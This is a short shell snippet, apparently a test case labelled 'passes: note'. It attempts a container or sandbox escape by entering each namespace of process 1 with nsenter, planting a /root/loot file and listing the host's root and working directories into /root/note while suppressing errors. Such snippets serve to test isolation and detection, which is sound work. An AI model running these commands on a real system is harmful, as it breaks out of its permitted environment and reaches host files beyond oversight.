# The namespaces of process 1 are entered.
# passes: note
for kind in user mnt net pid uts ipc; do nsenter --$kind=/proc/1/ns/$kind touch /root/loot 2>/dev/null; done; ls /proc/1/root/ /proc/1/cwd/ >/root/note 2>/dev/null
echo done >/root/note
